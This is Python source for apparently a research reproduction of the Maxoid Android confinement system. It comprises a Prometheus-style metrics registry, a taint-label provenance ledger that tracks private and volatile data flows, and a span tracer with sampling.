    ``{"device": ...}``); ``help_text`` maps *registry* metric names to
    ``# HELP`` strings, emitted before the matching ``# TYPE``. With
    ``type_lines=False`` only the sample lines are produced — the fleet
    exporter emits one header block per family across many devices."""
    labelset = format_labels(labels)
    help_text = help_text or {}
    lines: List[str] = []

    def header(raw_name: str, metric: str, kind: str) -> None:
        if not type_lines:
            return
        if raw_name in help_text:
            lines.append(f"# HELP {metric} {_escape_help(help_text[raw_name])}")
        lines.append(f"# TYPE {metric} {kind}")

    for name in sorted(snapshot.counters):
        metric = _prom_name(name) + "_total"
        header(name, metric, "counter")
        lines.append(f"{metric}{labelset} {snapshot.counters[name]}")
    for name in sorted(snapshot.gauges):
        metric = _prom_name(name)
        header(name, metric, "gauge")
        lines.append(f"{metric}{labelset} {_prom_number(snapshot.gauges[name])}")
    for name in sorted(snapshot.histograms):
        hist = snapshot.histograms[name]
        metric = _prom_name(name)
        header(name, metric, "histogram")
        cumulative = 0
        for edge, bucket in zip(hist.boundaries, hist.counts):
            cumulative += bucket
            le = format_labels(labels, extra=("le", _prom_number(edge)))
            lines.append(f"{metric}_bucket{le} {cumulative}")
        le = format_labels(labels, extra=("le", "+Inf"))
        lines.append(f"{metric}_bucket{le} {hist.count}")
        lines.append(f"{metric}_sum{labelset} {_prom_number(hist.total)}")
        lines.append(f"{metric}_count{labelset} {hist.count}")
    return lines


class Metrics:
    """Registry of named metrics, created on first use."""

    def __init__(self) -> None:
        self._counters: Dict[str, Counter] = {}
        self._gauges: Dict[str, Gauge] = {}
        self._histograms: Dict[str, Histogram] = {}

    # -- accessors -------------------------------------------------------

    def counter(self, name: str) -> Counter:
        counter = self._counters.get(name)
        if counter is None:
            counter = self._counters[name] = Counter(name)
        return counter

    def gauge(self, name: str) -> Gauge:
        gauge = self._gauges.get(name)
        if gauge is None:
            gauge = self._gauges[name] = Gauge(name)
        return gauge

    def histogram(self, name: str, boundaries: Sequence[float] = DEFAULT_MS_BUCKETS) -> Histogram:
        hist = self._histograms.get(name)
        if hist is None:
            hist = self._histograms[name] = Histogram(name, boundaries)
        elif tuple(float(b) for b in boundaries) != hist.boundaries:
            raise MetricError(
                f"histogram {name} already registered with different boundaries"
            )
        return hist

    # -- hot-path conveniences ------------------------------------------

    def count(self, name: str, n: int = 1) -> None:
        self.counter(name).inc(n)

    def observe(self, name: str, value: float, boundaries: Sequence[float] = DEFAULT_MS_BUCKETS) -> None:
        self.histogram(name, boundaries).observe(value)

    # -- snapshotting ----------------------------------------------------

    def snapshot(self) -> MetricsSnapshot:
        return MetricsSnapshot(
            counters={name: c.value for name, c in self._counters.items()},
            gauges={name: g.value for name, g in self._gauges.items()},
            histograms={
                name: HistogramSnapshot(
                    boundaries=h.boundaries,
                    counts=tuple(h.counts),
                    total=h.total,
                    count=h.count,
                )
                for name, h in self._histograms.items()
            },
        )

    @staticmethod
    def diff(before: MetricsSnapshot, after: MetricsSnapshot) -> MetricsSnapshot:
        return diff(before, after)

    def to_prometheus_text(
        self,
        labels: Optional[Dict[str, str]] = None,
        help_text: Optional[Dict[str, str]] = None,
    ) -> str:
        """The registry in the Prometheus exposition text format.

        Counters gain the conventional ``_total`` suffix, histograms emit
        cumulative ``_bucket{le="..."}`` series ending at ``+Inf`` plus
        ``_sum``/``_count``, and every name is sanitized to the legal
        ``[a-zA-Z0-9_:]`` character set. ``labels`` attaches a label set
        to every series (values escaped per the format: ``\\``, ``"`` and
        newlines); ``help_text`` maps metric names to ``# HELP`` lines.
        """
        lines = render_prometheus(self.snapshot(), labels=labels, help_text=help_text)
        return "\n".join(lines) + ("\n" if lines else "")

    def reset(self) -> None:
        self._counters.clear()
        self._gauges.clear()
        self._histograms.clear()
