"""Cross-layer provenance: taint labels, lineage, and ``explain()``.

The paper's security goals (S1-S4) are statements about where data
derived from ``Priv(A)`` may flow. This module gives the reproduction
first-class runtime labels so those statements can be checked *online*:

- a taint-label lattice ordered ``Public < Vol(A) < Priv(A) < Priv(B^A)``
  (:class:`Label`), joined across initiator chains by set union;
- a :class:`ProvenanceLedger` that attaches label sets to VFS inodes,
  aufs copy-up targets, minisql/COW delta rows, volatile commits, binder
  transaction actors, and clipboard domains. Every instrumented read
  propagates the object's labels into the reading process's taint set;
  every write stamps the destination with the writer's taint set;
- an :meth:`ProvenanceLedger.explain` API that renders the derivation
  chain of any file path, ``(table, pk)`` row, or clipboard domain, e.g.
  ``public /storage/sdcard/out.pdf <- vol.commit by A <- vfs.write by
  B^A <- vfs.read of /data/data/A/doc.txt <- source Priv(A)``.

All hooks gate on ``OBS.prov`` (one attribute load and a branch), the
same zero-cost-when-disabled idiom as ``OBS.enabled`` — with the switch
off the ledger is never entered and the seed-speed fast path is intact.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any, Dict, FrozenSet, Iterable, List, Optional, Tuple, Union

from repro.obs.sweep import DATA_PREFIX, parse_delegate_ctx, priv_owner

__all__ = [
    "Label",
    "Lineage",
    "ProvenanceLedger",
    "TaintNode",
    "join_labels",
]

#: Lattice rank per label kind: ``public < vol < priv < dpriv``.
_RANKS = {"public": 0, "vol": 1, "priv": 2, "dpriv": 3}

#: Virtual prefix of volatile file state as the initiator sees it.
_EXT_TMP_PREFIX = "/storage/sdcard/tmp/"


@dataclass(frozen=True)
class Label:
    """One taint label: a point in the confinement lattice.

    ``kind`` is one of ``public``/``vol``/``priv``/``dpriv``; ``owner``
    names the package the state belongs to (the initiator for ``vol``,
    the delegate for ``dpriv``); ``via`` is the initiator of a
    delegate-private label (``Priv(B^A)`` has ``owner=B, via=A``).
    """

    kind: str
    owner: Optional[str] = None
    via: Optional[str] = None

    @classmethod
    def public(cls) -> "Label":
        """``Pub(all)`` — world-visible state."""
        return cls("public")

    @classmethod
    def vol(cls, initiator: str) -> "Label":
        """``Vol(A)`` — volatile state of initiator ``A``."""
        return cls("vol", owner=initiator)

    @classmethod
    def priv(cls, owner: str) -> "Label":
        """``Priv(A)`` — package-private state of ``A``."""
        return cls("priv", owner=owner)

    @classmethod
    def dpriv(cls, delegate: str, initiator: str) -> "Label":
        """``Priv(B^A)`` — delegate-private state of ``B`` run for ``A``."""
        return cls("dpriv", owner=delegate, via=initiator)

    @property
    def rank(self) -> int:
        """Position in the lattice (``public=0 .. dpriv=3``)."""
        return _RANKS.get(self.kind, 0)

    def __str__(self) -> str:
        if self.kind == "public":
            return "Public"
        if self.kind == "vol":
            return f"Vol({self.owner})"
        if self.kind == "dpriv":
            return f"Priv({self.owner}^{self.via})"
        return f"Priv({self.owner})"


def join_labels(*label_sets: Iterable[Label]) -> FrozenSet[Label]:
    """The lattice join of several label sets (set union)."""
    merged: set = set()
    for labels in label_sets:
        merged.update(labels)
    return frozenset(merged)


def _top_rank(labels: Iterable[Label]) -> int:
    return max((label.rank for label in labels), default=-1)


class TaintNode:
    """One event in the lineage DAG: an op, its labels, and its parents."""

    __slots__ = ("seq", "op", "detail", "ctx", "labels", "location", "parents")

    def __init__(
        self,
        seq: int,
        op: str,
        detail: str,
        ctx: Optional[str],
        labels: FrozenSet[Label],
        parents: Tuple["TaintNode", ...],
        location: Optional[Label] = None,
    ) -> None:
        self.seq = seq
        self.op = op
        self.detail = detail
        self.ctx = ctx
        self.labels = labels
        self.location = location
        self.parents = parents

    def all_labels(self) -> FrozenSet[Label]:
        """Data labels joined with the location label, if any."""
        if self.location is None:
            return self.labels
        return self.labels | {self.location}

    def describe(self) -> str:
        """One human-readable lineage step."""
        if self.op == "source":
            tags = ", ".join(sorted(str(label) for label in self.all_labels()))
            return f"source {self.detail} [{tags}]"
        text = self.op
        if self.op.endswith((".read", ".get", ".query", ".open_file")):
            text += f" of {self.detail}"
        if self.ctx:
            text += f" by {self.ctx}"
        return text

    def __repr__(self) -> str:  # pragma: no cover - debug aid
        tags = ",".join(sorted(str(label) for label in self.labels))
        return f"<TaintNode #{self.seq} {self.op} {self.detail} [{tags}]>"


@dataclass(frozen=True)
class Lineage:
    """The rendered derivation chain of one object, newest step first."""

    target: str
    steps: Tuple[str, ...]
    taints: FrozenSet[Label]
    sources: FrozenSet[Label]

    def render(self) -> str:
        """The chain as one arrow-joined line."""
        return " <- ".join(self.steps)

    def derives_from(self, kind: str, owner: Optional[str] = None) -> bool:
        """True when the object's taint contains a matching label."""
        for label in self.taints:
            if label.kind == kind and (owner is None or label.owner == owner):
                return True
        return False

    def __bool__(self) -> bool:
        return bool(self.steps)


class ProvenanceLedger:
    """Label storage plus the event API the instrumented layers call.

    Objects are keyed by stable identity — inode number for files (the
    process-global ino counter is unique across every simulated
    filesystem, so copy-up targets and volatile files never collide),
    ``(table, pk)`` for rows, domain name for clipboards. The last-known
    virtual path of each file is remembered so :meth:`explain` accepts
    the paths tests and humans actually use.
    """

    def __init__(self, tracer: Optional[Any] = None) -> None:
        self._tracer = tracer
        self._seq = 0
        self._objects: Dict[str, TaintNode] = {}
        self._paths: Dict[str, str] = {}
        self._process: Dict[int, TaintNode] = {}
        self._proc_ctx: Dict[int, str] = {}
        self._actors: List[Tuple[Optional[str], Optional[int]]] = []

    # -- keys ------------------------------------------------------------

    @staticmethod
    def inode_key(ino: int) -> str:
        """Ledger key of a file object, by inode number."""
        return f"inode:{ino}"

    @staticmethod
    def row_key(table: str, pk: object) -> str:
        """Ledger key of a database row."""
        return f"row:{table.lower()}:{pk}"

    @staticmethod
    def clip_key(domain: str) -> str:
        """Ledger key of a clipboard domain."""
        return f"clip:{domain}"

    # -- internals -------------------------------------------------------

    def _node(
        self,
        op: str,
        detail: str,
        ctx: Optional[str],
        labels: FrozenSet[Label],
        parents: Tuple[TaintNode, ...],
        location: Optional[Label] = None,
    ) -> TaintNode:
        self._seq += 1
        return TaintNode(self._seq, op, detail, ctx, labels, parents, location)

    def _emit(self, event: str, **attrs: Any) -> None:
        tracer = self._tracer
        if tracer is not None and tracer.enabled:
            tracer.event(f"prov.{event}", **attrs)

    def _file_key(self, path: str, ino: Optional[int]) -> str:
        if ino is not None:
            return self.inode_key(ino)
        # Path-only events (layers with no inode handle) bind to whatever
        # object this virtual path last resolved to.
        return self._paths.get(path, f"path:{path}")

    def classify_path(self, path: str, ctx: Optional[str] = None) -> Label:
        """The label of an unstamped file, from its virtual path alone."""
        owner = priv_owner(path)
        if owner is not None:
            pair = parse_delegate_ctx(ctx)
            if pair is not None and owner == pair[0]:
                return Label.dpriv(pair[0], pair[1])
            return Label.priv(owner)
        if path.startswith(_EXT_TMP_PREFIX) and ctx and parse_delegate_ctx(ctx) is None:
            return Label.vol(ctx)
        return Label.public()

    def _dest_location(self, path: str, ctx: Optional[str]) -> Label:
        """Where a write to ``path`` by ``ctx`` actually lands."""
        pair = parse_delegate_ctx(ctx)
        owner = priv_owner(path)
        if pair is not None:
            delegate, initiator = pair
            if owner == delegate:
                return Label.dpriv(delegate, initiator)
            # Every other delegate write — public view, foreign priv after
            # copy-up redirect — lands in the initiator's volatile state.
            return Label.vol(initiator)
        if owner is not None:
            return Label.priv(owner)
        if ctx and path.startswith(_EXT_TMP_PREFIX):
            return Label.vol(ctx)
        return Label.public()

    def _declassify(
        self, labels: FrozenSet[Label], ctx: Optional[str], location: Label
    ) -> FrozenSet[Label]:
        """A *plain* process publishing to a Public location declassifies
        the labels it owns — an app (or the user driving it) may choose
        to publish its own data, and flagging every later reader of that
        data would drown real leaks in false positives. Foreign labels
        always persist: nobody declassifies someone else's state. A
        delegate never declassifies anything — under Maxoid its public
        writes land in Vol anyway, and on a broken device (planted
        vulnerability, stock baseline) the surviving taint is exactly
        what the S1 taint rule needs to see."""
        if location.kind != "public" or not labels or ctx is None:
            return labels
        if parse_delegate_ctx(ctx) is not None:
            return labels
        return frozenset(
            label
            for label in labels
            if not (label.owner == ctx and label.via is None)
        )

    def _resolve_object(self, path: str, ino: Optional[int], ctx: Optional[str]) -> TaintNode:
        key = self._file_key(path, ino)
        node = self._objects.get(key)
        if node is None and ino is not None:
            node = self._objects.get(f"path:{path}")
        if node is None:
            source = self.classify_path(path, ctx)
            node = self._node("source", path, None, frozenset([source]), (), source)
            self._objects[key] = node
        self._paths[path] = key
        return node

    def _taint_process(
        self, pid: int, ctx: Optional[str], op: str, detail: str, obj: TaintNode
    ) -> TaintNode:
        prev = self._process.get(pid)
        merged = join_labels(
            prev.labels if prev is not None else (), obj.all_labels()
        )
        parents = tuple(p for p in (obj, prev) if p is not None)
        node = self._node(op, detail, ctx, merged, parents)
        self._process[pid] = node
        if ctx is not None:
            self._proc_ctx[pid] = ctx
        return node

    # -- process and actor lifecycle ------------------------------------

    def fork(self, pid: int, ctx: str) -> None:
        """Register a freshly forked process with an empty taint set."""
        self._proc_ctx[pid] = ctx
        self._process.pop(pid, None)
        self._emit("fork", pid=pid, ctx=ctx)

    def intent_flow(self, from_pid: int, to_pid: int, from_ctx: str, to_ctx: str) -> None:
        """Propagate the caller's taint into an invoked process (the
        intent payload crosses the AM on the caller's behalf)."""
        src = self._process.get(from_pid)
        if src is None:
            self._proc_ctx[to_pid] = to_ctx
            return
        node = self._node("am.start_activity", to_ctx, from_ctx, src.labels, (src,))
        self._process[to_pid] = node
        self._proc_ctx[to_pid] = to_ctx
        self._emit("intent", src=from_ctx, dst=to_ctx)

    def push_actor(self, ctx: Optional[str], pid: Optional[int] = None) -> None:
        """Enter a layer that has no process handle (binder, aufs, SQL):
        subsequent stamps attribute to this actor until the pop."""
        self._actors.append((ctx, pid))

    def pop_actor(self) -> None:
        """Leave the innermost actor scope (balanced with push_actor)."""
        if self._actors:
            self._actors.pop()

    def clear_actors(self) -> None:
        """Drop any residual actor scopes (teardown after an aborted op
        that raised between a push and its balancing pop)."""
        self._actors.clear()

    def current_actor(self) -> Tuple[Optional[str], Optional[int]]:
        """The innermost ``(ctx, pid)`` actor, or ``(None, None)``."""
        return self._actors[-1] if self._actors else (None, None)

    def _actor_taint(self) -> Tuple[Optional[str], Optional[TaintNode]]:
        ctx, pid = self.current_actor()
        node = self._process.get(pid) if pid is not None else None
        return ctx, node

    # -- file events -----------------------------------------------------

    def read(self, pid: int, ctx: str, path: str, ino: Optional[int] = None) -> None:
        """A process read a file: its labels join the process taint set."""
        obj = self._resolve_object(path, ino, ctx)
        self._taint_process(pid, ctx, "vfs.read", path, obj)
        self._emit("read", ctx=ctx, path=path)

    def write(self, pid: int, ctx: str, path: str, ino: Optional[int] = None) -> None:
        """A process wrote a file: the destination inherits its taint."""
        prev = self._process.get(pid)
        labels = prev.labels if prev is not None else frozenset()
        location = self._dest_location(path, ctx)
        labels = self._declassify(labels, ctx, location)
        node = self._node(
            "vfs.write", path, ctx, labels,
            (prev,) if prev is not None else (), location,
        )
        key = self._file_key(path, ino)
        self._objects[key] = node
        self._paths[path] = key
        self._emit("write", ctx=ctx, path=path)

    def copy_up(
        self, src_ino: int, dst_ino: int, union_path: str, mount: str = ""
    ) -> None:
        """Aufs copied a lower-branch file into the writable branch: the
        copy-up target inherits the source's labels verbatim."""
        src = self._objects.get(self.inode_key(src_ino))
        ctx, _ = self.current_actor()
        if src is None:
            src_label = self.classify_path(union_path, ctx)
            src = self._node(
                "source", union_path, None, frozenset([src_label]), (), src_label
            )
            self._objects[self.inode_key(src_ino)] = src
        detail = f"{union_path} ({mount})" if mount else union_path
        node = self._node(
            "aufs.copy_up", detail, ctx, src.all_labels(), (src,), src.location
        )
        self._objects[self.inode_key(dst_ino)] = node
        self._emit("copy_up", path=union_path, mount=mount)

    def commit_file(self, src_path: str, dst_path: str, initiator: str) -> None:
        """An initiator committed a volatile file to its public name."""
        src = None
        key = self._paths.get(src_path)
        if key is not None:
            src = self._objects.get(key)
        labels = src.all_labels() if src is not None else frozenset([Label.vol(initiator)])
        location = self._dest_location(dst_path, initiator)
        node = self._node(
            "vol.commit", dst_path, initiator, labels,
            (src,) if src is not None else (), location,
        )
        dst_key = self._paths.get(dst_path, f"path:{dst_path}")
        self._objects[dst_key] = node
        self._paths[dst_path] = dst_key
        self._emit("commit", src=src_path, dst=dst_path, initiator=initiator)

    def transfer(self, from_pid: int, to_pid: int, op: str, detail: str) -> None:
        """A cross-process data hand-off (a provider ``openFile``
        descriptor): the serving process's taint joins the receiver's."""
        src = self._process.get(from_pid)
        if src is None:
            return
        ctx = self._proc_ctx.get(to_pid) or self.current_actor()[0]
        self._taint_process(to_pid, ctx, op, detail, src)
        self._emit("transfer", op=op, detail=detail)

    # -- row events ------------------------------------------------------

    def row_write(
        self,
        table: str,
        pk: object,
        op: str = "cow.insert",
        initiator: Optional[str] = None,
    ) -> None:
        """A row landed in ``table``: delta rows carry ``Vol(initiator)``
        plus the acting process's taint; public rows carry the actor's."""
        ctx, actor = self._actor_taint()
        labels = actor.labels if actor is not None else frozenset()
        if initiator is not None:
            labels = labels | {Label.vol(initiator)}
            location: Label = Label.vol(initiator)
        else:
            location = Label.public()
            labels = self._declassify(labels, ctx, location)
        node = self._node(
            op, f"{table}[{pk}]", ctx, labels,
            (actor,) if actor is not None else (), location,
        )
        self._objects[self.row_key(table, pk)] = node
        self._emit("row", table=table, pk=pk, op=op)

    def row_commit(
        self,
        table: str,
        pk: object,
        delta_table: str,
        delta_pk: object,
        initiator: str,
    ) -> None:
        """A delta row was committed into the primary table: the public
        row's lineage points back at the volatile delta row."""
        src = self._objects.get(self.row_key(delta_table, delta_pk))
        labels = src.all_labels() if src is not None else frozenset([Label.vol(initiator)])
        ctx, _ = self.current_actor()
        node = self._node(
            "cow.commit", f"{table}[{pk}]", ctx or initiator, labels,
            (src,) if src is not None else (), Label.public(),
        )
        self._objects[self.row_key(table, pk)] = node
        self._emit("commit", table=table, pk=pk, initiator=initiator)

    def table_read(self, tables: Iterable[str]) -> None:
        """A query scanned ``tables``: every stamped row's labels join the
        current actor's taint. Callers pass exactly the tables their view
        resolves to (primary only for plain callers, primary + delta for
        delegates), so rows invisible to the view never over-taint."""
        ctx, pid = self.current_actor()
        if pid is None:
            return
        for table in tables:
            prefix = f"row:{table.lower()}:"
            for key, node in list(self._objects.items()):
                if key.startswith(prefix):
                    self._taint_process(pid, ctx, "cow.query", node.detail, node)
        self._emit("query", tables=",".join(tables))

    # -- clipboard events ------------------------------------------------

    def clip_set(self, pid: int, ctx: str, domain: str) -> None:
        """A copy: the clipboard domain inherits the setter's taint."""
        prev = self._process.get(pid)
        labels = prev.labels if prev is not None else frozenset()
        if domain.startswith("vol:"):
            location: Label = Label.vol(domain[len("vol:"):])
        else:
            location = Label.public()
        labels = self._declassify(labels, ctx, location)
        node = self._node(
            "clip.set", domain, ctx, labels,
            (prev,) if prev is not None else (), location,
        )
        self._objects[self.clip_key(domain)] = node
        self._emit("clip", ctx=ctx, domain=domain)

    def clip_get(self, pid: int, ctx: str, domain: str) -> None:
        """A paste: the domain's labels join the reader's taint set."""
        node = self._objects.get(self.clip_key(domain))
        if node is None:
            return
        self._taint_process(pid, ctx, "clip.get", domain, node)
        self._emit("clip", ctx=ctx, domain=domain)

    # -- queries ---------------------------------------------------------

    def process_taint(self, pid: int) -> FrozenSet[Label]:
        """The current taint set of a process (empty if untracked)."""
        node = self._process.get(pid)
        return node.labels if node is not None else frozenset()

    def object_node(self, target: Union[str, int, Tuple[str, object]]) -> Optional[TaintNode]:
        """Resolve a path / inode number / ``(table, pk)`` pair / raw key
        to its ledger node, or None when untracked."""
        if isinstance(target, int):
            return self._objects.get(self.inode_key(target))
        if isinstance(target, tuple):
            return self._objects.get(self.row_key(target[0], target[1]))
        node = self._objects.get(target)
        if node is not None:
            return node
        key = self._paths.get(target)
        if key is not None:
            return self._objects.get(key)
        return self._objects.get(f"path:{target}")

    def taint_of(self, target: Union[str, int, Tuple[str, object]]) -> FrozenSet[Label]:
        """The data-taint labels of an object (no location label)."""
        node = self.object_node(target)
        return node.labels if node is not None else frozenset()

    def explain(self, target: Union[str, int, Tuple[str, object]]) -> Lineage:
        """Render the derivation chain of a file path, row, or domain.

        Walks the lineage DAG from the object backwards, at each hop
        following the parent that carries the highest-ranked label, so
        the chain surfaces *how the most sensitive taint got there*.
        Returns a falsy empty Lineage for untracked objects.
        """
        name = str(target) if not isinstance(target, tuple) else f"{target[0]}[{target[1]}]"
        node = self.object_node(target)
        if node is None:
            return Lineage(name, (), frozenset(), frozenset())
        location = node.location if node.location is not None else Label.public()
        steps: List[str] = [f"{str(location).lower()} {node.detail or name}"]
        taints = node.labels
        current: Optional[TaintNode] = node
        seen = set()
        last = node
        while current is not None and id(current) not in seen:
            seen.add(id(current))
            steps.append(current.describe())
            last = current
            if not current.parents:
                break
            current = max(
                current.parents, key=lambda parent: (_top_rank(parent.all_labels()), parent.seq)
            )
        return Lineage(name, tuple(steps), taints, last.all_labels())

    def reset(self) -> None:
        """Drop every label, lineage node, and actor."""
        self._seq = 0
        self._objects.clear()
        self._paths.clear()
        self._process.clear()
        self._proc_ctx.clear()
        self._actors.clear()
