"""The tracer: spans, sinks, and nested-span propagation.

A :class:`Span` covers one operation in one layer (``vfs.open``,
``aufs.copy_up``, ``cow.query``, ...). Because the whole simulation is a
synchronous in-process call chain, parent/child relationships fall out of
a simple span stack: when the Activity Manager opens ``am.start_activity``
and the delegate's handler then issues syscalls, the ``vfs.*`` spans are
created while the AM span is still open and inherit it as their parent.
One delegate invocation therefore yields a single connected trace tree
spanning AM -> Zygote -> syscall -> Aufs -> COW proxy, which is exactly
the cross-layer visibility Maxoid debugging needs.

Design constraints:

- **Zero cost when disabled.** Instrumented call sites gate on a single
  attribute check (``if OBS.enabled:``); this module is only entered once
  tracing is on. :meth:`Tracer.span` additionally returns a shared no-op
  span when called without the gate.
- Spans are emitted to sinks at *exit* (children before parents); sinks
  and tests reconstruct the tree from ``parent_id``/``trace_id``.
"""

from __future__ import annotations

import itertools
import json
import time
from collections import deque
from typing import Any, Callable, Deque, Dict, List, Optional

__all__ = [
    "Span",
    "SpanNode",
    "RingBufferSink",
    "JsonlSink",
    "Tracer",
    "build_trees",
]


class Span:
    """One traced operation; usable as a context manager."""

    __slots__ = (
        "tracer",
        "trace_id",
        "span_id",
        "parent_id",
        "name",
        "attrs",
        "start",
        "end",
        "status",
        "device_id",
    )

    def __init__(
        self,
        tracer: Optional["Tracer"],
        trace_id: int,
        span_id: int,
        parent_id: Optional[int],
        name: str,
        attrs: Dict[str, Any],
        device_id: str = "device0",
    ) -> None:
        self.tracer = tracer
        self.trace_id = trace_id
        self.span_id = span_id
        self.parent_id = parent_id
        self.name = name
        self.attrs = attrs
        self.start = 0.0
        self.end = 0.0
        self.status = "ok"
        self.device_id = device_id

    # -- context manager -------------------------------------------------

    def __enter__(self) -> "Span":
        self.start = time.perf_counter()
        return self

    def __exit__(self, exc_type, exc, tb) -> None:
        self.end = time.perf_counter()
        if exc_type is not None:
            self.status = "error"
            self.attrs.setdefault("error", exc_type.__name__)
        if self.tracer is not None:
            self.tracer._finish(self)

    # -- span API --------------------------------------------------------

    def set(self, **attrs: Any) -> "Span":
        """Attach attributes to an open span."""
        self.attrs.update(attrs)
        return self

    def event(self, name: str, **attrs: Any) -> None:
        """Record a point-in-time event as a zero-duration child span."""
        if self.tracer is not None:
            self.tracer.event(name, **attrs)

    @property
    def duration_ms(self) -> float:
        return (self.end - self.start) * 1000.0

    @property
    def elapsed_ms(self) -> float:
        """Time since the span opened (duration once closed)."""
        if self.end:
            return self.duration_ms
        return (time.perf_counter() - self.start) * 1000.0

    @property
    def layer(self) -> str:
        """The span taxonomy layer: the prefix before the first dot."""
        return self.name.split(".", 1)[0]

    def to_dict(self) -> Dict[str, Any]:
        return {
            "trace_id": self.trace_id,
            "span_id": self.span_id,
            "parent_id": self.parent_id,
            "name": self.name,
            "device_id": self.device_id,
            "start": self.start,
            "duration_ms": self.duration_ms,
            "status": self.status,
            "attrs": dict(self.attrs),
        }

    def __repr__(self) -> str:  # pragma: no cover - debug aid
        return f"<Span {self.name} #{self.span_id} parent={self.parent_id}>"


class _NoopSpan:
    """Shared do-nothing span for the disabled tracer."""

    __slots__ = ()

    def __enter__(self) -> "_NoopSpan":
        return self

    def __exit__(self, *exc) -> None:
        return None

    def set(self, **attrs: Any) -> "_NoopSpan":
        return self

    def event(self, name: str, **attrs: Any) -> None:
        return None


NOOP_SPAN = _NoopSpan()


class _SampledOutSpan:
    """Placeholder for a span inside a head-sampled-out trace.

    The tracer tracks the suppressed nesting depth so every descendant of
    a dropped root is dropped with it; exiting unwinds the depth. Nothing
    is recorded, so a sampled-out trace costs one counter per span.
    """

    __slots__ = ("_tracer",)

    def __init__(self, tracer: "Tracer") -> None:
        self._tracer = tracer

    def __enter__(self) -> "_SampledOutSpan":
        return self

    def __exit__(self, *exc) -> None:
        if self._tracer._drop_depth > 0:
            self._tracer._drop_depth -= 1

    def set(self, **attrs: Any) -> "_SampledOutSpan":
        return self

    def event(self, name: str, **attrs: Any) -> None:
        return None


_M64 = (1 << 64) - 1


def _sample_hash(seed: int, n: int) -> float:
    """A splitmix64-style hash of ``(seed, n)`` mapped into ``[0, 1)``.

    Deterministic across processes and platforms: the same seed and root
    ordinal always land on the same side of the sampling threshold."""
    x = (n * 0x9E3779B97F4A7C15 + seed * 0xBF58476D1CE4E5B9 + 0x94D049BB133111EB) & _M64
    x ^= x >> 30
    x = (x * 0xBF58476D1CE4E5B9) & _M64
    x ^= x >> 27
    x = (x * 0x94D049BB133111EB) & _M64
    x ^= x >> 31
    return (x >> 11) / float(1 << 53)


class RingBufferSink:
    """Keeps the most recent finished spans in memory."""

    def __init__(self, capacity: int = 8192) -> None:
        self.capacity = capacity
        self._spans: Deque[Span] = deque(maxlen=capacity)
        self.dropped = 0

    def on_span(self, span: Span) -> None:
        if len(self._spans) == self.capacity:
            self.dropped += 1
        self._spans.append(span)

    @property
    def spans(self) -> List[Span]:
        return list(self._spans)

    def clear(self) -> None:
        self._spans.clear()
        self.dropped = 0

    def close(self) -> None:
        pass


class JsonlSink:
    """Appends each finished span as one JSON line (for offline analysis)."""

    def __init__(self, path: str) -> None:
        self.path = path
        self._fh = open(path, "a", encoding="utf-8")
        self.written = 0

    def on_span(self, span: Span) -> None:
        self._fh.write(json.dumps(span.to_dict(), default=str) + "\n")
        self.written += 1

    def clear(self) -> None:
        pass

    def close(self) -> None:
        if not self._fh.closed:
            self._fh.flush()
            self._fh.close()


class Tracer:
    """Creates spans, tracks the active-span stack, fans out to sinks.

    ``device_id`` is stamped onto every span so traces from several
    devices' tracers separate cleanly after a fleet merge. Deterministic
    head sampling (:meth:`set_sampling`) decides keep/drop once per trace
    root from a seeded hash; descendants inherit the decision, so
    always-on fleet tracing stays bounded without tearing trees apart.
    """

    def __init__(self, device_id: str = "device0") -> None:
        self.enabled = False
        self.device_id = device_id
        self.ring = RingBufferSink()
        self._sinks: List[Any] = [self.ring]
        self._listeners: List[Any] = []
        self._stack: List[Span] = []
        self._ids = itertools.count(1)
        #: spans recorded (kept) since the last clear().
        self.started = 0
        # -- head sampling --------------------------------------------------
        self._sample_rate = 1.0
        self._sample_seed = 0
        self._sample_n = 0  # ordinal of the next trace root
        self._drop_depth = 0  # >0 while inside a sampled-out trace
        self._dropped = _SampledOutSpan(self)
        #: trace roots dropped by head sampling since the last clear().
        self.sampled_out = 0

    # -- lifecycle -------------------------------------------------------

    def enable(self, jsonl_path: Optional[str] = None, capacity: int = 8192) -> None:
        """Turn tracing on; optionally tee finished spans to a JSONL file."""
        if capacity != self.ring.capacity:
            self.ring = RingBufferSink(capacity)
            self._sinks = [self.ring] + [
                s for s in self._sinks if not isinstance(s, RingBufferSink)
            ]
        if jsonl_path is not None:
            self._sinks.append(JsonlSink(jsonl_path))
        self.enabled = True

    def disable(self) -> None:
        self.enabled = False
        for sink in self._sinks:
            if isinstance(sink, JsonlSink):
                sink.close()
        self._sinks = [s for s in self._sinks if not isinstance(s, JsonlSink)]
        self._stack.clear()
        self._drop_depth = 0

    def set_sampling(self, rate: float = 1.0, seed: int = 0) -> None:
        """Head-sample trace roots at ``rate`` (keep probability in
        ``[0, 1]``), seeded deterministically: the n-th root under a given
        seed is always kept or always dropped."""
        if not 0.0 <= rate <= 1.0:
            raise ValueError(f"sampling rate must be in [0, 1], got {rate}")
        self._sample_rate = float(rate)
        self._sample_seed = int(seed)

    def add_sink(self, sink: Any) -> None:
        self._sinks.append(sink)

    def add_listener(self, fn: Any) -> None:
        """Register ``fn(span)`` to run as each span finishes.

        Listeners are lighter-weight than sinks: plain callables with no
        ``clear``/``close`` protocol, kept across ``enable``/``disable``
        cycles, and invoked *after* sinks while the span's open ancestors
        are still on the stack — streaming consumers (e.g. the security
        monitor) can therefore read inherited attributes off ancestors.
        """
        if fn not in self._listeners:
            self._listeners.append(fn)

    def remove_listener(self, fn: Any) -> None:
        """Unregister a listener added via :meth:`add_listener`."""
        if fn in self._listeners:
            self._listeners.remove(fn)

    def clear(self) -> None:
        """Drop recorded spans (the JSONL file, if any, is untouched).

        Also rewinds the sampling root ordinal, so a cleared tracer with
        the same seed reproduces the same keep/drop sequence."""
        self.ring.clear()
        self._stack.clear()
        self.started = 0
        self._sample_n = 0
        self._drop_depth = 0
        self.sampled_out = 0

    # -- span creation ---------------------------------------------------

    def span(self, name: str, **attrs: Any):
        """Open a span as a context manager.

        Call sites on hot paths gate on ``enabled`` *before* building the
        kwargs; this check is a second line of defence for cold paths.
        """
        if not self.enabled:
            return NOOP_SPAN
        if self._drop_depth:
            # Inside a sampled-out trace: the whole subtree is dropped.
            self._drop_depth += 1
            return self._dropped
        parent = self._stack[-1] if self._stack else None
        if parent is None and self._sample_rate < 1.0:
            n = self._sample_n
            self._sample_n += 1
            if _sample_hash(self._sample_seed, n) >= self._sample_rate:
                self._drop_depth = 1
                self.sampled_out += 1
                return self._dropped
        self.started += 1
        span = Span(
            tracer=self,
            trace_id=parent.trace_id if parent is not None else next(self._ids),
